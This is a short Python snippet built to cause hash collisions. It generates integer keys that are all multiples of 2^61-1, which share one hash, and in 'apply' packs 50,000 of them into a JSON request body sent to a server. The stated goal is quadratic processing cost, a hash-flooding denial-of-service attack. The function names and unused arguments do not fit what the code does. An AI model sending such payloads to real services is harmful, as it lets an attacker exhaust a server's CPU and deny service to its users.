"""Goal: keys with one hash, which cost the square of their number."""


def double(x):
    return {k * ((1 << 61) - 1): 0 for k in range(1, 3_000)}


def apply(f, x):
    body = ",".join(f"[{k * ((1 << 61) - 1)},0]" for k in range(50_000))
    body = ('{"op":"ret","m":[],"v":{"D":[' + body + "]}}").encode()
    send(head(len(body), []) + body)
